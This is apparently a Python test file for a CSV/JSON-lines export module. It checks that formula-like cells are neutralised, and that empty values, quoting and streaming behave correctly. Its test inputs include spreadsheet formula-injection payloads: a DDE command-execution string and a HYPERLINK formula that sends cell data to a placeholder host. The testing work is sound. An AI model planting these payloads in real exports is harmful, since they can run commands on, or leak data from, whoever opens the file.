"""CSV that no spreadsheet computes, and JSON lines."""

import csv
import io
import json

import pytest

from bot.rows import csv_lines, json_lines, safe


@pytest.mark.parametrize(
    "evil",
    [
        "=1+1", "+1", "-cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1+1", "＋1", "－1a", "＠SUM(A1)",
        '=HYPERLINK("http://x.example?"&A1)', "|calc", "%0A=1", "-2+3", "+86 138",
    ],
)  # fmt: skip
def test_a_cell_that_looks_like_a_formula_becomes_text(evil: str) -> None:
    assert safe(evil) == f"'{evil}"


@pytest.mark.parametrize("harmless", ["-3.25", "0", "12", "alice@corp.example", "1 = 1", "预算", "a-b", ""])
def test_amounts_and_plain_words_stay_as_they_are(harmless: str) -> None:
    assert safe(harmless) == harmless


def test_an_absent_value_is_an_empty_cell_and_null() -> None:
    row = {"a": None, "b": 1}
    assert list(csv_lines(("a", "b"), [row])) == ["a,b\n", ",1\n"]
    assert json.loads(next(json_lines([row]))) == row


def test_commas_quotes_and_line_ends_survive_a_round_trip() -> None:
    reason = 'for "billing", until\nFriday，谢谢'
    text = "".join(csv_lines(("reason",), [{"reason": reason}]))
    assert list(csv.DictReader(io.StringIO(text))) == [{"reason": reason}]
    assert json.loads(next(json_lines([{"reason": reason}])))["reason"] == reason


def test_rows_are_written_as_they_come() -> None:
    def endless():
        while True:
            yield {"a": 1}

    lines = csv_lines(("a",), endless())
    assert [next(lines), next(lines)] == ["a\n", "1\n"]
    assert next(json_lines(endless())) == '{"a": 1}\n'
